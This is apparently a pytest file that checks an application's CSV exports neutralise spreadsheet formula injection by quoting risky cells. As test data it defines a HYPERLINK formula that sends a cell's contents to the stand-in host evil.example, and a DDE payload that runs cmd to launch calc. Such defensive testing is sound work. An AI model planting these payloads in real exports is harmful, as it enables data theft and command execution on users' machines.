"""Finding 1: no CSV the application writes carries a live spreadsheet formula (OWASP's rule:
a text cell beginning with =, +, -, @, tab or carriage return is written with a leading ')."""

import csv
import io

import pytest

from agreements.lists.csv_file import safe_cell
from tests.factories import make_action, make_instrument

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
COMMAND = "@SUM(1+1)*cmd|' /C calc'!A0"


def parse(response) -> list[dict]:
    body = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(body)))


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        (COMMAND, "'" + COMMAND),
        ("+1+cmd", "'+1+cmd"),
        ("-2+3", "'-2+3"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-3", "-3"),
        ("-0.5", "-0.5"),
        (-3, -3),
        ("Plain title", "Plain title"),
        ("a=b", "a=b"),
    ],
)
def test_safe_cell_quotes_formulas_and_nothing_else(value, written):
    assert safe_cell(value) == written


def test_api_csv_quotes_a_formula_title(db, api_as):
    make_instrument(title=HYPERLINK)
    make_instrument(title=COMMAND)

    rows = parse(api_as("consumer").get("/api/v1/instruments/?format=csv&ordering=title"))

    assert [row["title"] for row in rows] == ["'" + HYPERLINK, "'" + COMMAND]


def test_api_csv_quotes_a_formula_in_rows_built_by_a_serializer(db, api_as):
    make_action(title=COMMAND)

    rows = parse(api_as("consumer").get("/api/v1/actions/?format=csv"))

    assert [row["title"] for row in rows] == ["'" + COMMAND]


def test_board_csv_quotes_a_formula_title(db, client_as):
    make_action(title=HYPERLINK)

    response = client_as("manager").get("/follow-ups/?format=csv")

    assert [row["follow-up"] for row in parse(response)] == ["'" + HYPERLINK]
